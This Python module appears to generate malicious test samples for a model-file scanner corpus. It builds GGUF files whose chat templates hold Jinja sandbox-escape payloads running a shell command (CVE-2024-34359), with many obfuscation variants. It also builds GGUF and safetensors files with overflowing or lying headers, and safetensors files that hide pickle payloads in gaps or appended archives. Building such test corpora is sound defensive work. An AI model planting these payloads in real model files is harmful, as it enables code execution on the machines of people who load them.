"""Formats that hold only weights, and what still goes wrong: templates in GGUF, headers that lie."""

from __future__ import annotations

import json
import struct
from collections.abc import Iterator

from corpus.opcodes import EVIL
from corpus.sample import CANARY, SHELL, Draft, other
from corpus.zip_making import torch_entries, zip_of

RUN = f"os.popen('{SHELL}').read()"
TEMPLATES = {
    "cycler": "{{ cycler.__init__.__globals__." + RUN + " }}",
    "joiner": "{{ joiner.__init__.__globals__." + RUN + " }}",
    "namespace": "{{ namespace.__init__.__globals__." + RUN + " }}",
    "lipsum": "{{ lipsum.__globals__." + RUN + " }}",
    "lipsum-subscript": "{{ lipsum['__globals__']['os']['popen']('" + SHELL + "').read() }}",
    "builtins": "{{ cycler.__init__.__globals__['__builtins__']['__import__']('os').system('" + SHELL + "') }}",
    "class-walk": "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == '_wrap_close' %}"
    "{{ c.__init__.__globals__['system']('" + SHELL + "') }}{% endif %}{% endfor %}",
    "attr-filter": "{{ (cycler|attr('__init__')|attr('__globals__'))['os'].system('" + SHELL + "') }}",
    "attr-joined": "{{ (cycler|attr('__in' + 'it__')|attr('__glo' ~ 'bals__'))['os'].system('" + SHELL + "') }}",
    "attr-escaped": "{{ (cycler|attr('\\x5f\\x5finit\\x5f\\x5f')|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].system('"
    + SHELL
    + "') }}",
    "attr-filter-join": "{{ (cycler|attr(['__init','__']|join)|attr(['__globals','__']|join))['os'].system('"
    + SHELL
    + "') }}",
    "attr-format": "{{ (cycler|attr('%sinit%s'|format('__','__'))|attr('%sglobals%s'|format('__','__')))['os'].system('"
    + SHELL
    + "') }}",
    "attr-replaced": "{{ (cycler|attr('@@init@@'|replace('@','_'))|attr('@@globals@@'|replace('@','_')))['os'].system('"
    + SHELL
    + "') }}",
    "attr-variable": "{% set a = '__init__' %}{% set b = '__globals__' %}{{ (cycler|attr(a)|attr(b))['os'].system('"
    + SHELL
    + "') }}",
    "map-attribute": "{{ ([cycler]|map(attribute='__init__.__globals__')|first)['os'].system('" + SHELL + "') }}",
    "self": "{{ self.__init__.__globals__.__builtins__.__import__('os').system('" + SHELL + "') }}",
    "behind-a-chat": "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] }}{% endfor %}"
    "{% set x = cycler.__init__.__globals__." + RUN + " %}",
    "line-broken": "{{ cycler\n .__init__\n .__globals__\n ." + RUN + " }}",
    "in-a-macro": "{% macro f() %}{{ cycler.__init__.__globals__." + RUN + " }}{% endmacro %}{{ f() }}",
}
"""Templates that leave Jinja's language; all of them run their command in an ordinary environment (CVE-2024-34359)."""

GOOD_TEMPLATE = "{% for m in messages %}{{ '<|' + m['role'] + '|>\\n' + m['content'] }}{% endfor %}"


def drafts() -> Iterator[Draft]:
    """All of them."""
    for way, template in TEMPLATES.items():
        yield other(
            f"gguf-template-{way}",
            {"model.gguf": gguf_of({"tokenizer.chat_template": template})},
            "gguf",
            cve="CVE-2024-34359",
        )
    second = {"tokenizer.chat_template": GOOD_TEMPLATE, "tokenizer.chat_template.tool_use": TEMPLATES["cycler"]}
    yield other("gguf-second-template", {"model.gguf": gguf_of(second)}, "gguf", cve="CVE-2024-34359")
    yield other(
        "gguf-named", {"model.bin": gguf_of({"tokenizer.chat_template": TEMPLATES["cycler"]})}, cve="CVE-2024-34359"
    )
    yield from gguf_headers()
    yield from safetensors()


def gguf_of(
    texts: dict[str, str],
    *,
    tensors: int | None = None,
    keys: int | None = None,
    raw: bytes = b"",
    tensor: bytes | None = None,
    data: bytes = bytes(32),
    version: int = 3,
) -> bytes:
    """A GGUF file with one tensor; the counts may lie."""

    def string(value: str) -> bytes:
        return struct.pack("<Q", len(value.encode())) + value.encode()

    pairs = {"general.architecture": "llama", **texts}
    body = b"".join(string(key) + struct.pack("<I", 8) + string(value) for key, value in pairs.items()) + raw
    one = string("w") + struct.pack("<IQIQ", 1, 8, 0, 0) if tensor is None else string("w") + tensor
    head = b"GGUF" + struct.pack(
        "<IQQ", version, 1 if tensors is None else tensors, len(pairs) if keys is None else keys
    )
    start = head + body + one
    return start + bytes(-len(start) % 32) + data


def gguf_headers() -> Iterator[Draft]:
    """Counts, lengths and offsets that overflow."""
    key = struct.pack("<Q", 1) + b"k"
    for technique, data in {
        "tensor-count": gguf_of({}, tensors=1 << 62),
        "key-count": gguf_of({}, keys=1 << 62),
        "string-length": gguf_of({}, keys=2, raw=key + struct.pack("<IQ", 8, 1 << 63)),
        "array-length": gguf_of({}, keys=2, raw=key + struct.pack("<IIQ", 9, 4, 1 << 61)),
        "array-nested": gguf_of({}, keys=2, raw=key + struct.pack("<I", 9) + struct.pack("<IQ", 9, 1) * 5000),
        "dimensions": gguf_of({}, tensor=struct.pack("<I", 1 << 30)),
        "size-overflow": gguf_of({}, tensor=struct.pack("<IQQIQ", 2, 1 << 33, 1 << 33, 0, 0)),
        "offset": gguf_of({}, tensor=struct.pack("<IQIQ", 1, 8, 0, 1 << 60)),
        "type": gguf_of({}, tensor=struct.pack("<IQIQ", 1, 8, 9999, 0)),
        "alignment": gguf_of({}, keys=2, raw=struct.pack("<Q", 17) + b"general.alignment" + struct.pack("<II", 4, 0)),
        "truncated": gguf_of({})[:-33],
    }.items():
        yield other(
            f"gguf-{technique}",
            {"model.gguf": data},
            cve="CVE-2024-23496" if "count" in technique else "",
            harm="corruption",
        )


def safetensors_of(header: str | bytes, data: bytes = b"", size: int | None = None) -> bytes:
    """A safetensors file; its length may lie."""
    raw = header.encode() if isinstance(header, str) else header
    return struct.pack("<Q", len(raw) if size is None else size) + raw + data


def safetensors() -> Iterator[Draft]:
    """Headers by which two readers see different tensors, or one reads what is not there."""

    def entry(start: int, end: int, shape: tuple[int, ...] = (4,), dtype: str = "F32") -> str:
        return json.dumps({"dtype": dtype, "shape": shape, "data_offsets": [start, end]})

    for technique, data in {
        "header-beyond-end": safetensors_of(f'{{"w":{entry(0, 16)}}}', bytes(16), 1 << 40),
        "header-negative": safetensors_of("{}", b"", (1 << 64) - 8),
        "double-name": safetensors_of(f'{{"w":{entry(0, 16)},"w":{entry(16, 32)}}}', bytes(32)),
        "overlap": safetensors_of(f'{{"a":{entry(0, 16)},"b":{entry(8, 24)}}}', bytes(24)),
        "beyond-end": safetensors_of(f'{{"w":{entry(0, 1 << 40, (1 << 38,))}}}', bytes(16)),
        "negative": safetensors_of(f'{{"w":{entry(-16, 0)}}}', bytes(16)),
        "backwards": safetensors_of(f'{{"w":{entry(16, 0)}}}', bytes(16)),
        "shape-mismatch": safetensors_of(f'{{"w":{entry(0, 16, (1000,))}}}', bytes(16)),
        "shape-overflow": safetensors_of(f'{{"w":{entry(0, 16, (1 << 32, 1 << 32, 4))}}}', bytes(16)),
        "unknown-type": safetensors_of(f'{{"w":{entry(0, 16, (4,), "Q9")}}}', bytes(16)),
        "not-json": safetensors_of(b"{'w': 1}", bytes(16)),
        "not-an-object": safetensors_of("[]"),
        "not-utf-8": safetensors_of(b'{"\xff":1}'),
        "deep-json": safetensors_of('{"w":' + "[" * 100_000 + "]" * 100_000 + "}"),
        "fraction": safetensors_of('{"w":{"dtype":"F32","shape":[4.0],"data_offsets":[0,16]}}', bytes(16)),
        "gap": safetensors_of(f'{{"a":{entry(0, 16)},"b":{entry(64, 80)}}}', bytes(80)),
        "metadata-type": safetensors_of('{"__metadata__":{"a":[1]}}'),
        "truncated": safetensors_of(f'{{"w":{entry(0, 16)}}}', bytes(8)),
        "appended": safetensors_of(f'{{"w":{entry(0, 16)}}}', bytes(16) + b"MZ" + bytes(200)),
    }.items():
        yield other(f"safetensors-{technique}", {"model.safetensors": data}, harm="corruption")
    good = safetensors_of(f'{{"w":{entry(0, 16)}}}', bytes(16))
    yield other("safetensors-then-zip", {"model.safetensors": good + zip_of(torch_entries(EVIL))}, "zip.member")
    yield other("safetensors-is-a-pickle", {"model.safetensors": EVIL}, "pickle")
    yield other(
        "safetensors-gap-holds-a-pickle",
        {
            "model.safetensors": safetensors_of(
                f'{{"a":{entry(0, 16)},"b":{entry(16 + len(EVIL), 32 + len(EVIL))}}}', bytes(16) + EVIL + bytes(16)
            )
        },
        harm="hidden",
    )
    text = CANARY * 3
    yield other(
        "safetensors-metadata-template",
        {
            "model.safetensors": safetensors_of(
                json.dumps({"__metadata__": {"format": text}})[:-1] + ', "w":' + entry(0, 1 << 50) + "}", bytes(16)
            )
        },
        harm="corruption",
    )
